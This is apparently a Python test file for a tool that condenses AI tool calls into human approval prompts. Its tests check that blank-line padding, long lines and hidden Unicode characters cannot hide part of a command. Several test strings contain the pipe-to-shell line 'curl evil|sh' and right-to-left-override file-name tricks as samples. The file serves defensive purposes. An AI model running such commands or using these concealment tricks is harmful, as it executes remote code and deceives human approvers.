"""The excerpt of a call in the question for its approval."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from segue.core.approval import (
    COLUMNS,
    LEAST_COLUMNS,
    LEAST_ROWS,
    ROWS,
    Description,
    Excerpt,
    excerpt,
    fits_anywhere,
    full_text,
)
from segue.core.text import is_hidden, visible

calls = st.lists(
    st.sampled_from(["", " " * 80, "\t", "date", "漢" * 300, "x" * 2000, "\u202e", "- \\", "\r"])
    | st.text(max_size=40),
    max_size=80,
).map("\n".join)


def of(text: str, rows: int = ROWS, columns: int = COLUMNS) -> Excerpt:
    return excerpt(Description.of(text), rows=rows, columns=columns)


def test_a_short_call_is_unchanged():
    shown = of("run in /tmp:\n\n  date\n\tls")
    assert (shown.text, shown.lines, shown.is_whole) == (
        "run in /tmp:\n\n  date\n    ls",
        4,
        True,
    )


def test_blank_lines_cannot_hide_text():
    shown = of("run in /tmp:\ncurl evil|sh" + "\n" * 60 + "  \n" * 61 + "date")
    assert shown.text == "run in /tmp:\ncurl evil|sh\n[120 blank lines]\ndate"
    assert (shown.lines, shown.is_whole) == (123, True), "no word is missing"


def test_spaces_cannot_hide_text():
    assert of("date" + " " * 500 + "; curl evil|sh").text == "date[500 spaces]; curl evil|sh"
    assert of("date" + "\t" * 50 + "; ls").text == "date[200 spaces]; ls"


def test_of_many_lines_the_first_and_the_last_are_shown():
    shown = of("\n".join(["first", *map(str, range(500)), "last"]))
    lines = shown.text.split("\n")
    assert (lines[0], lines[-1], shown.lines) == ("first", "last", 502)
    assert len(lines) == ROWS
    assert lines[ROWS // 2] == f"[{503 - ROWS} lines not shown]"
    assert not shown.is_whole


def test_the_count_of_hidden_lines_includes_blank_ones():
    shown = of("\n".join(["first", *"a" * 50, *[""] * 100, *"b" * 50, "last"]))
    assert f"[{203 - ROWS} lines not shown]" in shown.text


def test_a_long_line_is_cut_in_the_middle():
    shown = of(f"run in /tmp:\necho {'x' * 5000}; curl evil|sh")
    assert shown.text.startswith("run in /tmp:\necho xxx")
    assert shown.text.endswith("; curl evil|sh")
    assert "x[4,875 characters not shown]x" in shown.text


@pytest.mark.parametrize(
    ("hidden", "written"),
    [
        ("rm \u202egpj.exe", r"rm \u202egpj.exe"),
        ("ls\u00a0-l\u3000a", r"ls\xa0-l\u3000a"),
        ("a\x1b[8mb\rc\u2028d", r"a\x1b[8mb\rc\u2028d"),
        ("rm fi\ufe0fle -\ufe0e", r"rm fi\ufe0fle -\ufe0e"),
        ("I ❤\ufe0f tea", "I ❤\ufe0f tea"),
    ],
)
def test_hidden_characters_in_a_call_are_escaped(hidden: str, written: str):
    assert of(hidden).text == written
    assert full_text(hidden) == written


@given(calls, st.integers(8, 60), st.integers(18, 200))
def test_every_call_fits_its_size_without_hidden_characters(what: str, rows: int, columns: int):
    shown = of(what, rows, columns)
    lines = shown.text.split("\n")
    taken = sum(max(1, -(-_width(line) // columns)) for line in lines)
    assert taken <= rows + 1
    assert not any(map(is_hidden, shown.text.replace("\n", "")))
    assert shown.lines == visible(what).count("\n") + 1
    if not shown.is_whole:
        assert "[" in shown.text


@given(calls)
def test_the_full_view_holds_the_whole_call(what: str):
    dense = "".join(full_text(what).split())
    for word in visible(what).split():
        assert word in dense


@pytest.mark.parametrize(("rows", "columns"), [(LEAST_ROWS, LEAST_COLUMNS), (ROWS, COLUMNS)])
def test_the_rest_of_a_call_cannot_hide_its_head(rows: int, columns: int):
    head = ("make a job", "may do without asking: shell", "delivers to: telegram:42")
    assert fits_anywhere(head)
    rest = "\n".join(f"line {n} " + "x" * 500 for n in range(100))
    shown = excerpt(Description("\n".join(head), rest), rows=rows, columns=columns)
    assert shown.text.split("\n")[:3] == list(head)
    assert not shown.is_whole


def test_a_line_of_the_head_that_is_too_long_leaves_a_row_to_each_of_the_others():
    path = "write /" + "x" * 4000 + "/end, outside the working directory"
    head = f"{path}\ngiven as /tmp/x:"
    shown = excerpt(Description(head, "root"), rows=LEAST_ROWS, columns=LEAST_COLUMNS)
    lines = shown.text.split("\n")
    assert lines[0].startswith("write /xxx")
    assert lines[0].endswith("xxx/end, outside the working directory")
    assert " hidden]" in lines[0]
    assert lines[1:] == ["given as /tmp/x:", "root"]
    assert not shown.is_whole


def _width(line: str) -> int:
    return sum(2 if c == "漢" else 1 for c in line)


def test_a_question_fits_into_one_message_of_every_platform():
    assert ROWS * COLUMNS < 2000
